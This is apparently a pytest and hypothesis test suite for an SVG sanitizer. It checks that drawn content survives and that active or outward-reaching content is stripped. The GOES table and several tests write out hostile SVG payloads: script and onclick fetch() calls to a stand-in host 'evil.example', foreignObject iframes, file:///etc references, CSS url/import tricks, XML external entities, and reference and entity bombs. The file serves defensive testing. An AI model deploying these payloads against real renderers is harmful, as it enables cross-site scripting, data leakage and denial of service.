"""SVG: what is drawn stays; whatever runs, loads or leads outwards goes."""

from __future__ import annotations

import base64
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.engines.disarm.pictures.made import CANARY, metadata, saved, scene
from tests.engines.disarm.support import run, stopped, through
from tests.support.parts import need

from sekisho.disarm.account import Act
from sekisho.disarm.profile import STRICT, TEXT

SPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
LURE = "http://evil.example/" + CANARY.decode()


def svg(inner: str, root: str = "") -> bytes:
    """A small SVG around `inner`."""
    return f'<svg {SPACES} viewBox="0 0 10 10" {root}>{inner}</svg>'.encode()


def test_what_is_drawn_stays() -> None:
    inner = (
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient>'
        '<filter id="f"><feGaussianBlur stdDeviation="2"/></filter></defs>'
        "<style>.a{fill:url(#g);stroke:rgb(1,2,3)}</style>"
        '<path class="a" d="M0 0L5 5a1,1 0 0 1 2.5e-1-3z" transform="translate(1,2) rotate(45)"/>'
        '<text x="1" y="2" font-family="\'MS 明朝\', serif" style="writing-mode:tb">庁舎'
        '<tspan fill="red">案内 &amp; &lt;図&gt;</tspan></text>'
        '<use xlink:href="#u" x="2"/><g id="u" filter="url(#f)"><circle r="3"/></g>'
    )
    result = through(svg(inner), "a.svg")
    text = result.content.decode()
    assert result.said.entries == ()
    for piece in (".a{fill:url(#g);stroke:rgb(1,2,3)}", "M0 0L5 5a1,1 0 0 1 2.5e-1-3z",
                  'transform="translate(1,2) rotate(45)"', "庁舎", "案内 &amp; &lt;図&gt;",
                  'style="writing-mode:tb"', "'MS 明朝', serif", 'xlink:href="#u"',
                  'filter="url(#f)"', 'stdDeviation="2"'):  # fmt: skip
        assert piece in text, piece


GOES = {
    "script": (f"<script>{LURE}</script>", "svg-script"),
    "script by reference": (f'<script xlink:href="{LURE}"/>', "svg-script"),
    "handler": (f"<rect onclick=\"fetch('{LURE}')\"/>", "svg-script"),
    "handler in capitals": (f'<rect ONLOAD="{LURE}"/>', "svg-script"),
    "foreign": (
        f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{LURE}"/>'
        "</foreignObject>",
        "svg-foreign",
    ),
    "outer picture": (f'<image xlink:href="{LURE}"/>', "svg-external"),
    "outer picture, plain": (f'<image href="{LURE}"/>', "svg-external"),
    "local picture": (f'<image href="file:///etc/{CANARY.decode()}"/>', "svg-external"),
    "outer use": (f'<use href="{LURE}#a"/>', "svg-external"),
    "fill": (f'<rect fill="url({LURE}#a)"/>', "svg-external"),
    "style": (f'<rect style="fill:url({LURE})"/>', "svg-external"),
    "escaped style": (f'<rect style="fill:u\\72l({LURE})"/>', "svg-external"),
    "import": (f"<style>@import '{LURE}';</style>", "svg-external"),
    "font": (f"<style>@font-face{{src:url({LURE})}}</style>", "svg-style"),
    "sheet": (f"<style>a{{background:url({LURE})}}</style>", "svg-external"),
    "selector": (f"<style>a[href='{LURE}']{{fill:red}}</style>", "svg-style"),
    "effect": (f'<filter id="f"><feImage href="{LURE}"/></filter>', "svg-external"),
    "animated link": (f'<a><animate attributeName="href" values="{LURE}"/></a>', "svg-animation"),
    "set": (f'<set attributeName="href" to="{LURE}"/>', "svg-animation"),
    "script link": (f'<a href="javascript:{CANARY.decode()}"><rect/></a>', "svg-link"),
    "metadata": (f"<metadata>{LURE}</metadata>", "svg-metadata"),
    "editor": (f'<x:view xmlns:x="urn:x" x:path="{LURE}"/>', "svg-metadata"),
    "editor attribute": (f'<rect xmlns:x="urn:x" x:path="{LURE}"/>', "svg-metadata"),
    "base": (f'<rect xml:base="{LURE}"/>', "svg-metadata"),
    "html picture": (f'<img xmlns="http://www.w3.org/1999/xhtml" src="{LURE}"/>', "svg-metadata"),
    "svg in svg": (
        f'<image href="data:image/svg+xml;base64,{base64.b64encode(svg(LURE)).decode()}"/>',
        "svg-external",
    ),
    "stray text": (f"<g>{LURE}</g>", "svg-other"),
    "unknown": (f'<nothing at="{LURE}"/>', "svg-other"),
}


@pytest.mark.parametrize("name", GOES)
def test_what_runs_loads_or_leads_outwards_goes(name: str) -> None:
    inner, thing = GOES[name]
    result = through(svg(inner), "a.svg")
    assert CANARY not in result.content
    assert b"evil" not in result.content
    assert thing in result.rows(Act.REMOVED), result.said.entries


def test_comments_instructions_and_the_document_type_go() -> None:
    head = f'<?xml version="1.0"?><?xml-stylesheet href="{LURE}"?><!-- {LURE} -->'
    kind = f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{LURE}">'
    content = (head + kind).encode() + svg(f"<!-- {LURE} --><rect/><?x {LURE}?>")
    assert CANARY not in through(content, "a.svg").content


def test_entities_stop() -> None:
    for inside in (f'<!ENTITY a SYSTEM "{LURE}">', '<!ENTITY a "b"><!ENTITY c "&a;&a;">',
                   f"<!ENTITY % a SYSTEM '{LURE}'>%a;"):  # fmt: skip
        content = f"<?xml version='1.0'?><!DOCTYPE svg [{inside}]>".encode() + svg(
            "<text>&a;</text>"
        )
        assert run(content, "a.svg").code == "SKS-D305"


def test_links_by_profile() -> None:
    content = svg('<a href="https://www.city.example.jp/"><text>詳しく</text></a>'
                  '<text><a href="https://www.city.example.jp/">ここ</a></text>')  # fmt: skip
    assert through(content, "a.svg").rows(Act.KEPT) == {"svg-link": 2}
    strict = through(content, "a.svg", STRICT)
    assert b"https" not in strict.content
    assert strict.rows(Act.REMOVED) == {"svg-link": 2}
    assert "<tspan>ここ</tspan>" in strict.content.decode()


def test_pictures_inside_are_disarmed() -> None:
    for kind, mime in (("PNG", "png"), ("JPEG", "jpg")):
        inner = saved(scene(), kind, exif=metadata()) + CANARY
        data = base64.b64encode(inner).decode()
        result = through(svg(f'<image href="data:image/{mime};base64,{data}"/>'), "a.svg")
        kept = base64.b64decode(result.content.partition(b"base64,")[2].partition(b'"')[0])
        assert CANARY in inner and CANARY not in kept
        assert {"picture-location", "data-after-end"} <= result.rows(Act.REMOVED).keys()
    assert through(svg('<image href="data:image/png;base64,@@@"/>'), "a.svg").rows(Act.REMOVED)


def test_text_is_looked_at() -> None:
    result = run(svg("<text>庁舎</text>"), "a.svg")
    assert result.code == ""


def test_bombs_stop() -> None:
    tens = (f'<use href="#a{n}"/>' * 10 for n in range(11))
    levels = "".join(f'<g id="a{n}">{uses}</g>' for n, uses in enumerate(tens, 1))
    stopped(svg(f'<defs><rect id="a0"/>{levels}</defs><use href="#a11"/>'), "a.svg", "SKS-D306")
    stopped(
        svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), "a.svg", "SKS-D306"
    )
    stopped(svg('<pattern id="p"><rect fill="url(#p)"/></pattern>'), "a.svg", "SKS-D306")
    assert run(svg("<g>" * 5_000 + "</g>" * 5_000), "a.svg").code == "SKS-D305"
    stopped(svg("<g/>" * 700_000), "a.svg", "SKS-D306")
    hungry = through(svg('<filter id="f"><feTurbulence numOctaves="999999"/></filter>'), "a.svg")
    assert b"999999" not in hungry.content


def test_long_values_take_linear_time() -> None:
    spaces, moves = " " * 300_000, "rotate(1) " * 30_000
    for inner in (f'<rect fill="{spaces}!"/>', f'<rect transform="{moves}!"/>',
                  f"<style>{'/*' * 200_000}</style>", f"<style>{'a;' * 100_000}</style>",
                  f"<style>{'a{b:c}' * 30_000}</style>",
                  f"<style>{'{' * 200_000}</style>"):  # fmt: skip
        run(svg(inner), "a.svg")


def test_the_namespace_and_the_form_matter() -> None:
    stopped(b"<svg><script>1</script></svg>", "a.svg", "SKS-D305")
    stopped(svg("<rect/>"), "a.svg", "SKS-D302", TEXT)
    stopped(svg("<rect>"), "a.svg", "SKS-D305")


def test_a_prefix_is_no_way_round() -> None:
    content = f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{LURE}</s:script></s:svg>'
    assert CANARY not in through(content.encode(), "a.svg").content


def test_other_encodings_are_read() -> None:
    text = svg("<text>第一庁舎の案内図です</text>").decode()
    for codec in ("utf-16", "cp932", "euc_jp"):
        head = f'<?xml version="1.0" encoding="{ {"cp932": "Shift_JIS"}.get(codec, codec) }"?>'
        result = through((head + text).encode(codec), "a.svg")
        assert "第一庁舎の案内図です" in result.content.decode("utf-8")


def test_another_parser_finds_it_well_formed(tmp_path: Path) -> None:
    if not shutil.which("xmllint"):
        need("xmllint", "install libxml2-utils")
    everything = svg("".join(inner for inner, _ in GOES.values()))
    (tmp_path / "a.svg").write_bytes(through(everything, "a.svg").content)
    said = subprocess.run(
        ["xmllint", "--noout", "--nonet", str(tmp_path / "a.svg")], capture_output=True
    )
    assert said.returncode == 0, said.stderr


PIECES = st.sampled_from(
    [*(inner for inner, _ in GOES.values()), "<rect/>", "<g>", "</g>", "<text>a</text>", "&#13;",
     "<![CDATA[<x>]]>", "<style>", "</style>", "a{fill:red}", "/*", "*/", "@media x{a{b:c}}", "}",
     '<use href="#a"/>', '<g id="a"/>', "\r\n", "\u3000", "&amp;",
     "<a href='https://a.jp'>", "</a>",
     '<rect style="fill:red;;stroke:url(#a) none ! important"/>'],
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=12))
def test_mixed_pieces(pieces: list[str]) -> None:
    first = run(svg("".join(pieces)), "a.svg")
    if first.code:
        return
    assert b"evil" not in first.content and CANARY not in first.content
    again = run(first.content, first.said.name)
    assert again.content == first.content and not again.said.stopped


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=60), st.integers(0, 2_000))
def test_mutated_markup(junk: bytes, at: int) -> None:
    content = svg("".join(inner for inner, _ in GOES.values()))
    first = run(content[:at] + junk + content[at + len(junk) :], "a.svg")
    if first.code or first.said.kind != "svg":
        return
    assert run(first.content, first.said.name).content == first.content
